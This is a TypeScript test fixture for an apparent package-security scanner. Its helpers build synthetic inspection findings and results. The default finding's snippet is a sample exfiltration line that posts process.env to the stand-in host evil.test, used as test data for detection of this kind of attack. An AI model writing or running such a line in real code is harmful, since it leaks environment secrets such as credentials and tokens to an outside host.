import type { Finding, Inspection } from '../../src/model/inspection.ts';

/** A synthetic finding: a decisive attack unless told otherwise. */
export function finding(over: Partial<Finding> = {}): Finding {
  return {
    ruleId: 'data-exfiltration/env-dump',
    family: 'data_exfiltration',
    detector: 'data_exfil_v2',
    title: 'The environment is sent to a foreign host',
    description: 'process.env is posted to evil.test',
    severity: 'CRITICAL',
    confidence: 0.95,
    kind: 'threat',
    specificity: 'high',
    draft: false,
    at: { file: 'index.js', line: 3, column: 5 },
    snippet: 'fetch("https://evil.test", { body: JSON.stringify(process.env) })',
    evidence: [],
    trigger: 'called',
    relatedTo: [],
    cwe: ['CWE-200'],
    attack: ['T1041'],
    owasp: ['ASI04'],
    remediation: 'Do not install it.',
    fingerprint: JSON.stringify(over),
    ...over,
  };
}

export function inspection(findings: readonly Finding[], over: Partial<Inspection> = {}): Inspection {
  return {
    findings,
    skipped: [],
    failures: [],
    filesTotal: 1,
    filesScanned: 1,
    permissions: { network: false, filesystem: false, environment: false, subprocess: false },
    hosts: [],
    ...over,
  };
}
